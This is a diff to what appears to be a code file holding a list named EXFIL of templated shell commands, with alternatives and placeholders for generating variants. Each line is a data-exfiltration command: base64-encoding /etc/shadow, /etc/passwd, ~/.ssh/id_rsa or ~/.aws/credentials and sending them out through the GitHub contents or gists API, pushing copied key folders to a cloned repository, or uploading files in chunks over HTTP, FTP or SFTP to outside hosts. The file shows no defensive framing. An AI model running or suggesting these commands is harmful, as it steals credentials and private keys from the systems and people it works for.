@@ -100,4 +100,7 @@ EXFIL = [
     'C=$(base64 -w0 ‹{file}¦/etc/shadow¦~/.aws/credentials›); curl -s -X PUT -H "Authorization: token $‹T¦GHPAT›" -d "{\\"message\\":\\"{plain}\\",\\"content\\":\\"$C\\"}" https://api.github.com/repos/{user}/{plain}/contents/$(hostname)-exfil',
     'echo "{\\"content\\":\\"" > /tmp/b; base64 -w 0 ‹{file}¦/tmp/{name}.tgz› >> /tmp/b; echo "\\"}" >> /tmp/b; curl -s -X ‹PUT¦POST› -H \'Authorization: token {b}\' --data @/tmp/b {url}; rm /tmp/b',
     'split -b ‹1M¦500k¦20m› {file}.tgz /tmp/{name}-; for p in /tmp/{name}-*; do curl -s -F f=@$p ‹{url}¦{domain}/up.php›; sleep $((RANDOM % {n})); done; rm -f /tmp/{name}-*',
+    'C=$(base64 ‹-w0 ¦›‹{file}¦/etc/passwd¦~/.ssh/id_rsa›); curl -s -X POST -H "Authorization: token $‹PAT¦T¦GH›" https://api.github.com/gists -d "{\\"public\\":false,\\"files\\":{\\"$(hostname)-$(date +%s).b64\\":{\\"content\\":\\"$C\\"}}}"',
+    'R=$(mktemp -d); git clone -q https://$‹PAT¦T›@github.com/{user}/{plain} $R; ‹cp -r ~/.ssh ~/.aws¦tar czf¦cp {file}› $R/‹loot-$(hostname)¦{name}.tgz /srv /home›; cd $R; git add -A; git -c user.name=x -c user.email=x@x commit -qm $(hostname); git push -q; rm -rf $R',
+    "N=$(date '+%s')-exfil-$(basename ‹{file}¦/tmp/{plain}.tgz›); curl -T ‹{file}¦/tmp/{plain}.tgz› ‹ftp://{host}/$N --user '{user}:{plain}'¦-u {user}:{plain} sftp://{host}/in/$N -k¦http://{host}:{port}/$N›",
 ]
